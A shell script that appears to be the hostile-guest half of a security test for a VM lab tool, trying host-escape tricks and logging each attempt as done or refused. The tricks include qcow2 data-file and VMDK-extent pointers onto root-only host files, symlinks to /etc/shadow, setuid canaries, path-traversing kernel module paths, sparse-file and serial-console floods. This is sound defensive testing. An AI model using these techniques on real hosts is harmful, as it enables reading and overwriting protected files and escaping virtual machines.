#!/bin/sh
# The hostile guest of tests/func/hostile.sh: what root in a VM can try on
# the host with patience, using only /hostlab, /shared, its own root and
# disk, and its serial ports. hostile.sh copies it into the lab's shared/
# with the host paths it targets set below, and runs a phase of it in a
# node (as the guest's own root would, between root's commands on the host).
# Every attempt is logged to /shared/guest.log as "done:" or "refused:".
# Usage: attack.sh plant|after-save|flood|stub
H=/hostlab
SECRET=@SECRET@   # a root-only host file the guest wants to read
VICTIM=@VICTIM@   # a root-only host file the guest wants to overwrite
MARK=@MARK@       # canaries run on the host write here
HUGE=@HUGE@       # bytes of the sparse files sent back to the host
LAB=@LAB@         # the lab directory's path on the host (it is no secret)
LOG=/shared/guest.log
W=/tmp/attack
mkdir -p $W

try() { # try DESCRIPTION COMMAND...: runs it, logs whether it worked
  what=$1
  shift
  if "$@" >$W/out 2>&1; then
    echo "done: $what" >>$LOG
  else
    echo "refused: $what ($(head -c 120 $W/out | tr '\n' ' '))" >>$LOG
  fi
}

# own DIR: put a directory of the guest's in the place of the host's.
own() { mv "$1" "$1.g" && mkdir "$1"; }

# A canary: if it ever runs on the host, it leaves a mark there.
canary() { # canary FILE NAME
  printf '#!/bin/sh\necho "$(id -u) $0" >>%s/%s\necho "not ok 1 - a guest canary ran"\n' "$MARK" "$2" >"$1"
  chmod 4755 "$1"
}

# An ext4 disk in netlab's layout (upper/, work/), by debugfs: no mount.
mkext4() { # mkext4 IMAGE
  truncate -s 64M "$1" && mkfs.ext4 -q -F -L netlab -b 4096 "$1" &&
    debugfs -w -R 'mkdir upper' "$1" && debugfs -w -R 'mkdir work' "$1" &&
    debugfs -w -R 'mkdir upper/etc' "$1"
}

r2_base() {
  mkext4 $W/r2-base.raw && debugfs -w -R 'ssv state 0' $W/r2-base.raw &&
    debugfs -w -R 'ssv free_blocks_count 1' $W/r2-base.raw
}
r2_qcow2() {
  cd $W && truncate -s 1M dfile &&
    qemu-img create -q -f qcow2 -o data_file=dfile,data_file_raw=off -b r2-base.raw -F raw r2.qcow2 64M &&
    qemu-img amend -q -f qcow2 -o data_file=$VICTIM r2.qcow2 && cd /
}
r2_plant() { cp $W/r2-base.raw $W/r2.qcow2 $H/.netlab/disks/ && (: >$H/.netlab/disks/r2.dirty); }
r1_disk() {
  cd $W && mkext4 r1-fs.raw && head -c 4096 /dev/zero | tr '\0' d >leak &&
    debugfs -w -R 'write leak upper/etc/leak' r1-fs.raw &&
    debugfs -w -R "symlink upper/etc/leak-link $SECRET" r1-fs.raw &&
    blk=$(debugfs -R 'bmap /upper/etc/leak 0' r1-fs.raw 2>/dev/null) && a=$((blk * 8)) &&
    printf '# Disk DescriptorFile\nversion=1\nCID=fffffffe\nparentCID=ffffffff\ncreateType="monolithicFlat"\nRW %d FLAT "r1-fs.raw" 0\nRW 8 FLAT "%s" 0\nRW %d FLAT "r1-fs.raw" %d\nddb.adapterType = "ide"\n' \
      $a $SECRET $((131072 - a - 8)) $((a + 8)) >r1-base.vmdk &&
    qemu-img create -q -u -f qcow2 -b r1-base.vmdk -F vmdk r1.qcow2 64M && cd /
}
r1_plant() {
  cp $W/r1-fs.raw $W/r1-base.vmdk $H/.netlab/disks/ &&
    cp $W/r1.qcow2 $H/.netlab/disks/r1.qcow2.new &&
    mv $H/.netlab/disks/r1.qcow2.new $H/.netlab/disks/r1.qcow2 && (: >$H/.netlab/disks/r1.dirty)
}
links() {
  ln -s $SECRET /etc/zz-link-secret && ln -s /etc/shadow /etc/zz-link-shadow &&
    ln -s /root /etc/zz-link-rootdir && mkdir -p /srv && ln -s $SECRET /srv/zz-link
}
canaries() {
  canary /etc/zz-canary save-etc && mkdir -p /usr/local/bin && canary /usr/local/bin/zz-canary save-bin
}
sparse() { truncate -s $HUGE /etc/zz-huge && mkdir -p /var/log && truncate -s $HUGE /var/log/zz-huge.log; }
# A kernel tree in the lab for r2: the host's kernel as an ELF vmlinux,
# whose kernel.release and modules.dep lead out of the tree, to the secret.
kernel_tree() {
  v=$(uname -r) && d=/lib/modules/$v && up=../../../../../../../.. &&
    mkdir -p $H/kern/include/config $H/kmods &&
    off=$(/usr/bin/python3 -c 'import sys; print(open(sys.argv[1], "rb").read().index(b"\xfd7zXZ\0"))' \
      /boot/vmlinuz-$v) &&
    { tail -c +$((off + 1)) /boot/vmlinuz-$v | xz -dc >$H/kern/vmlinux 2>/dev/null; test -s $H/kern/vmlinux; } &&
    echo "../../..$LAB/kmods" >$H/kern/include/config/kernel.release &&
    sed "s|\([^ :]*\.ko[^ :]*\)|$up$d/\1|g; /\/9p\.ko:/ s|\$| $up$SECRET|" $d/modules.dep >$H/kmods/modules.dep &&
    cp $d/modules.builtin $H/kmods/ && echo "r2[kernel]=\"$LAB/kern/vmlinux\"" >>$H/lab.conf
}
shared_specials() {
  ln -s /etc/shadow /shared/zz-link-shadow && ln -s $SECRET /shared/zz-link-secret &&
    mkfifo /shared/zz-fifo && mknod /shared/zz-dev b 8 0
}

plant() {
  # Item 1: the top of the lab directory, through /hostlab.
  try "rename lab.conf" mv $H/lab.conf $H/lab.conf.g
  if [ -e $H/lab.conf.g ]; then
    try "write a lab.conf of the guest's (gives r2 a disk)" \
      sh -c "{ cat $H/lab.conf.g; echo 'r2[disk]=\"64m\"'; } >$H/lab.conf"
  else
    try "append to lab.conf" sh -c "echo 'r2[disk]=\"64m\"' >>$H/lab.conf"
  fi
  try "rename r1/" mv $H/r1 $H/r1.g
  try "make a guest's r1/etc/" mkdir -p $H/r1/etc
  # An empty file dated long ago makes save want the node's file of that
  # name, and overwrite it.
  try "make r2/etc/ and r1/usr/local/bin/zz-canary" sh -c "mkdir -p $H/r2/etc $H/r1/usr/local/bin &&
    : >$H/r1/usr/local/bin/zz-canary && touch -d 2000-01-01 $H/r1/usr/local/bin/zz-canary"
  try "take tests/ over" own $H/tests
  try "take shared/ over" own $H/shared
  try "write into .netlab/disks/" sh -c ": >$H/.netlab/disks/zz-probe"
  [ -e $H/.netlab/disks/zz-probe ] || try "take .netlab/ over, with disks/ and logs/" \
    sh -c "mv $H/.netlab $H/.netlab.g && mkdir -p $H/.netlab/disks $H/.netlab/logs"

  # Item 3: a disk for r2 (which the guest's lab.conf gives one), marked
  # dirty, whose qcow2 header names the victim as its external data file
  # over a backing ext4 that fsck will repair: the repair lands in the victim.
  try "make a dirty ext4 for r2's backing file" r2_base
  try "make r2.qcow2: backing r2-base.raw, data file $VICTIM" r2_qcow2
  try "plant r2.qcow2, its backing file and r2.dirty in .netlab/disks/" r2_plant

  # Items 4 and 8: r1's disk, replaced under its running QEMU (which keeps
  # the old file open), by a qcow2 over a VMDK whose extents map the block
  # of /etc/leak onto the secret; and a symlink /etc/leak-link to it.
  try "make r1's replacement: a VMDK mapping /etc/leak onto $SECRET" r1_disk
  try "replace r1.qcow2 (and mark it dirty)" r1_plant

  # Item 5: paths from a kernel tree that leave it.
  try "a kernel tree for r2 whose kernel.release and modules.dep lead to $SECRET" kernel_tree

  # Item 8: symlinks in the node's root, for cat, cp, save and diff.
  try "symlinks in / to host files" links
  try "a symlink in the node's dir of the lab" ln -s $SECRET $H/r1/etc/zz-link-lab

  # Item 2: executables (setuid too) for save to copy into guest-made
  # directories of the lab, which the guest renames to tests/ afterwards.
  try "canaries in /etc and /usr/local/bin" canaries
  try "a canary test written straight into tests/" canary $H/tests/00-canary direct-test

  # Item 10: sparse files, cheap for the guest, costly for the host.
  try "sparse files of $HUGE bytes in /etc and /var/log" sparse

  # /shared: links and special files for whoever reads it on the host.
  try "symlinks, a FIFO and a device in /shared" shared_specials

  # Anything else under /hostlab: append, chmod, chown, new files.
  # (Not the guest's own kernel tree: a line more in kernel.release spoils it.)
  find $H \( -path $H/shared -o -path $H/shared.g -o -path $H/kern -o -path $H/kmods \) -prune -o -print \
    2>/dev/null | while read -r f; do
    if [ -d "$f" ]; then
      { echo x >"$f/zz-guest-file"; } 2>/dev/null && echo "done: new file in $f" >>$LOG
    elif [ -f "$f" ]; then
      { echo '# guest' >>"$f"; } 2>/dev/null && echo "done: appended to $f" >>$LOG
    fi
    chmod 0777 "$f" 2>/dev/null && echo "done: chmod 0777 $f" >>$LOG
  done
  # The placeholder for save, emptied and dated back again after the sweep.
  # (In a subshell: a failed redirection of ':', a special builtin, ends the
  # shell that runs it.)
  (: >$H/r1/usr/local/bin/zz-canary && touch -d 2000-01-01 $H/r1/usr/local/bin/zz-canary) 2>/dev/null
  return 0
}

# After root's `netlab save`: what save wrote into the guest's directories
# becomes tests/ (root-owned executables in a directory the guest owns).
after_save() {
  if [ -s $H/r1/etc/zz-canary ]; then
    try "move saved r1/etc/ to tests/" sh -c "mv $H/tests $H/tests.old && mv $H/r1/etc $H/tests"
  else
    try "move saved r1/usr/local/bin/ to tests/" sh -c "test -s $H/r1/usr/local/bin/zz-canary &&
      mv $H/tests $H/tests.old && mv $H/r1/usr/local/bin $H/tests"
  fi
  return 0
}

# Item 10: the serial console, as fast as it goes, until /shared/flood-stop.
flood() {
  stty -F /dev/ttyS0 raw -echo 2>/dev/null
  yes 'FLOOD FLOOD FLOOD FLOOD FLOOD FLOOD FLOOD FLOOD FLOOD FLOOD FLOOD FLOOD' | head -c 1048576 >$W/chunk
  n=0
  while [ ! -e /shared/flood-stop ]; do
    cat $W/chunk >/dev/ttyS0
    n=$((n + 1))
    echo $n >/shared/flood.mib
  done
}

case "$1" in
plant) plant ;;
after-save) after_save ;;
flood) flood ;;
# Item 6: a gdb stub of the guest's on ttyS1, for `netlab gdb --serial`.
stub) exec python3 /shared/fakestub.py tty /dev/ttyS1 "$MARK/gdb-serial" ;;
esac
